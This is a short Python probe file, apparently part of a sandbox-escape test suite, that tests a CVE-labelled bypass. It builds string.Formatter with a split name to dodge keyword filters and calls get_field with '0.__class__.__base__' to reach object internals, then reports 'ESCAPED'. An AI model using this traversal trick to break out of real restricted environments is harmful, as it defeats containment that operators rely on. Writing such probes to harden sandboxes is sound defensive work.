# tries: CVE-2026-76825, the traversal methods of string.Formatter: get_field by itself
# layer: language
import string


def run(ctx, params):
    maker = getattr(string, "Form" + "atter")
    found, _ = maker().get_field("0.__class__.__base__", ((),), {})
    return f"ESCAPED: {found}"
